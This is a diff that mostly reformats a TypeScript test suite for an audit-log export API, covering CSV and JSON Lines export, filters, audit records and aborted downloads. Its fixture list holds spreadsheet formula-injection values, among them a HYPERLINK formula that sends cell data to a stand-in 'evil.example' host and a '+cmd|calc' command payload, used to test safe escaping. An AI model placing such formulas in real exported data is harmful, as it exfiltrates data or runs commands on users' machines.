@@ -16,7 +16,15 @@ const COUNT = 2345; // more than two export batches of 1000
 const T0 = Date.parse('2032-01-01T00:00:00.000Z');
 
 /** Values a spreadsheet or a naive CSV writer would get wrong. */
-const AWKWARD_AGENTS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', 'Mozilla/5.0, "quoted", with commas', 'line one\r\nline two', '+cmd|calc', '@SUM(1)', '-2+3', 'plain ümlaut ✓'];
+const AWKWARD_AGENTS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  'Mozilla/5.0, "quoted", with commas',
+  'line one\r\nline two',
+  '+cmd|calc',
+  '@SUM(1)',
+  '-2+3',
+  'plain ümlaut ✓',
+];
 
 beforeAll(async () => {
   t = await startApp();
@@ -88,7 +96,7 @@ describe('JSON Lines export', () => {
 });
 
 describe('filters and the audit.export record', () => {
-  it('applies the list\'s filters; records audit.export with the format and the filters before streaming', async () => {
+  it("applies the list's filters; records audit.export with the format and the filters before streaming", async () => {
     const from = new Date(T0 + 1000 * 1000).toISOString();
     const to = new Date(T0 + 2000 * 1000).toISOString();
     const query = { format: 'jsonl', action: 'export.special', result: 'success', orgId, from, to };
@@ -98,10 +106,24 @@ describe('filters and the audit.export record', () => {
     for (let i = 1999; i >= 1000; i--) if (i % 10 === 0 && i % 7 !== 0 && i % 3 === 0) expected.push(i);
     expect(records.map((r) => r.details.i)).toEqual(expected);
 
-    const [recorded, ...others] = await listAll(admin.api, { action: 'audit.export', actorUserId: admin.user.id, orgId });
+    const [recorded, ...others] = await listAll(admin.api, {
+      action: 'audit.export',
+      actorUserId: admin.user.id,
+      orgId,
+    });
     expect(others).toEqual([]);
-    expect(recorded).toMatchObject({ result: 'success', actorEmail: admin.user.email, partnerId, orgId, resourceType: 'audit_log', ip: '127.0.0.1' });
-    expect(recorded!.details).toEqual({ format: 'jsonl', filters: { action: 'export.special', result: 'success', orgId, from, to } });
+    expect(recorded).toMatchObject({
+      result: 'success',
+      actorEmail: admin.user.email,
+      partnerId,
+      orgId,
+      resourceType: 'audit_log',
+      ip: '127.0.0.1',
+    });
+    expect(recorded!.details).toEqual({
+      format: 'jsonl',
+      filters: { action: 'export.special', result: 'success', orgId, from, to },
+    });
   });
 
   it('an unfiltered export is recorded with the partner and no organisation', async () => {
@@ -109,7 +131,11 @@ describe('filters and the audit.export record', () => {
     await download(t, admin.session.accessToken, { format: 'csv', resourceId: 'w-7' });
     const after = await listAll(admin.api, { action: 'audit.export' });
     expect(after.length).toBe(before + 1);
-    expect(after[0]).toMatchObject({ partnerId, orgId: null, details: { format: 'csv', filters: { resourceId: 'w-7' } } });
+    expect(after[0]).toMatchObject({
+      partnerId,
+      orgId: null,
+      details: { format: 'csv', filters: { resourceId: 'w-7' } },
+    });
   });
 
   it('refuses a missing or unknown format and malformed filters (400), before recording anything', async () => {
@@ -126,7 +152,10 @@ describe('filters and the audit.export record', () => {
 describe('a client that goes away', () => {
   it('abandoning a download mid-stream leaves the service answering', async () => {
     const ctrl = new AbortController();
-    const res = await fetch(`${t.baseUrl}/api/v1/audit-logs/export?format=jsonl`, { headers: { authorization: `Bearer ${admin.session.accessToken}` }, signal: ctrl.signal });
+    const res = await fetch(`${t.baseUrl}/api/v1/audit-logs/export?format=jsonl`, {
+      headers: { authorization: `Bearer ${admin.session.accessToken}` },
+      signal: ctrl.signal,
+    });
     const reader = res.body!.getReader();
     const { value } = await reader.read();
     expect(value!.length).toBeGreaterThan(0);
